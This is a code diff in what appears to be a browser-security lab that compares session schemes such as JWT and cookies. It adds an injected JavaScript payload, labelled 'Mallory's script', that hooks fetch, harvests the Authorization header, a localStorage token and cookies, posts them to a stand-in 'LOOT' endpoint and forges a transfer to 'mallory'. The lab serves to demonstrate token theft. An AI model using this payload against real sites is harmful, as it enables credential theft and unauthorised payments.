@@ -11,21 +11,44 @@ from typing import Any
 
 from werkzeug.wrappers import Request, Response
 
-from demo.browser_rows import NOTHING
 from demo.contenders import COOKIE, Contender, contender
+from demo.evidence.browsers import NOTHING
 from demo.schemes import Session
 from labs.browser.bank import (
     POLICY,
     Bank,
     Look,
+    log_in,
     open_bank,
+    pay,
     pays,
+    visit,
     whom,
 )
-from labs.browser.chromium import Chromium
-from labs.browser.pages import INJECTED
+from labs.browser.browsers import Chromium
 from labs.browser.sites import BANK, EVIL, Sites
-from labs.browser.visitor import log_in, pay, visit
+
+INJECTED = """
+(() => {
+  if (window.came) { window.came.push("WAY"); return; }
+  window.came = ["WAY"];
+  const real = window.fetch;
+  window.fetch = async (path, options = {}) => {
+    const answer = await real(path, options);
+    if (path !== "/statement" || !answer.ok || window.done) return answer;
+    window.done = true;
+    const headers = options.headers || {};
+    const loot = {"fetch hook": headers.Authorization || "",
+      "localStorage": localStorage.getItem("token") || "",
+      "document.cookie": document.cookie};
+    await real("LOOT", {method: "POST", mode: "no-cors",
+      body: JSON.stringify(loot)}).catch(() => null);
+    await real("/transfer", {method: "POST", headers,
+      body: new URLSearchParams({to: "mallory", amount: "7"})});
+    return answer; };
+})()
+"""
+"""Mallory's script: send away all that it finds, then pay Mallory."""
 
 JWT = contender("JWT")
 
